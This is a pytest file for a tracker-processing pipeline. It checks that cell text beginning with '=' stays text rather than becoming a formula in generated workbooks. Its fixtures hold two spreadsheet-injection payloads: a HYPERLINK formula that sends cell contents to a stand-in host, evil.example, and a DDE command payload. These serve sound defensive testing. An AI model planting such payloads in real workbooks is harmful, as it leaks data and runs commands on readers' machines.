"""Text from a tracker is data: every workbook the pipeline writes (the checked copy, next
round's workbook, a new tracker, an imported appendix) holds text that starts with "=" as text,
read back by openpyxl as a string and stored in the file without a formula."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from openpyxl import Workbook

from pipeline.cli import main

LINK = '=HYPERLINK("http://evil.example/?"&B4,"Fix")'
DDE = "=cmd|' /C calc'!A0"
HEAD = ["Ref", "Action", "Owner", "Target date", "Status", "Update"]


def tracker_with_formula_text(path: Path) -> Path:
    """Two rounds of a tracker whose action, owner and update cells hold text starting with "="
    (as Excel keeps it after a leading apostrophe), and a status cell holding such text too."""
    book = Workbook()
    book.remove(book.active)
    for name, status in (("Q1 2025-26", "Green"), ("Q2 2025-26", DDE)):
        sheet = book.create_sheet(name)
        for row in ([f"Action plan - {name}"], HEAD,
                    ["1", LINK, DDE, "March 2026", status, f"{LINK} Progress made."],
                    ["2", "Recruit two officers", "HR", "April 2026", "Amber", DDE]):
            sheet.append(row)
        for cells in sheet.iter_rows():
            for cell in cells:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"  # text, as Excel stores '=... typed with an apostrophe
    book.save(path)
    return path


def formulas_in(path: Path) -> list[str]:
    """Every formula stored in the workbook's sheets (<f> elements), and every cell openpyxl
    reads back as one."""
    with zipfile.ZipFile(path) as archive:
        stored = [m for name in archive.namelist() if name.startswith("xl/worksheets/")
                  for m in re.findall(r"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>", archive.read(name).decode("utf-8"))]
    book = openpyxl.load_workbook(path)
    read = [f"{sheet.title}!{cell.coordinate}" for sheet in book for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]
    return stored + read


def texts_in(path: Path) -> set[str]:
    book = openpyxl.load_workbook(path)
    return {str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.value}


@pytest.fixture
def source(tmp_path: Path) -> Path:
    path = tracker_with_formula_text(tmp_path / "tracker.xlsx")
    assert formulas_in(path) == []  # the officer's file holds text, not formulas
    return path


def test_the_checked_copy_keeps_formula_text_as_text(source: Path, tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["validate", str(source), "--annotate", "--out", str(tmp_path / "out")])
    copy = tmp_path / "out" / "tracker - checked.xlsx"
    assert copy.is_file(), result.output
    assert formulas_in(copy) == []
    texts = texts_in(copy)
    assert LINK in texts and DDE in texts  # in the tracker's sheets and in the Findings sheet's Value column
    findings = openpyxl.load_workbook(copy)["Findings"]
    assert DDE in [findings.cell(row, 5).value for row in range(2, findings.max_row + 1)]


def test_next_rounds_workbook_keeps_formula_text_as_text(source: Path, tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["new-round", str(source), "--out", str(tmp_path / "next.xlsx")])
    assert result.exit_code == 0, result.output
    assert formulas_in(tmp_path / "next.xlsx") == []
    assert {LINK, DDE} <= texts_in(tmp_path / "next.xlsx")


def test_an_imported_appendix_keeps_formula_text_as_text(source: Path, tmp_path: Path) -> None:
    built = CliRunner().invoke(main, ["build", str(source), "--out", str(tmp_path / "out"), "--force",
                                      "--report", "action-tracker"])
    [appendix] = (tmp_path / "out").glob("*.docx")
    result = CliRunner().invoke(main, ["import", str(appendix), "--report", "action-tracker", "--out",
                                       str(tmp_path / "imported.xlsx")])
    assert result.exit_code == 0, built.output + result.output
    assert formulas_in(tmp_path / "imported.xlsx") == []
    assert any(text.startswith("=HYPERLINK(") for text in texts_in(tmp_path / "imported.xlsx"))


def test_a_new_tracker_holds_no_formula(tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["new-tracker", str(tmp_path / "new.xlsx"), "--report", "action-tracker"])
    assert result.exit_code == 0, result.output
    assert formulas_in(tmp_path / "new.xlsx") == []
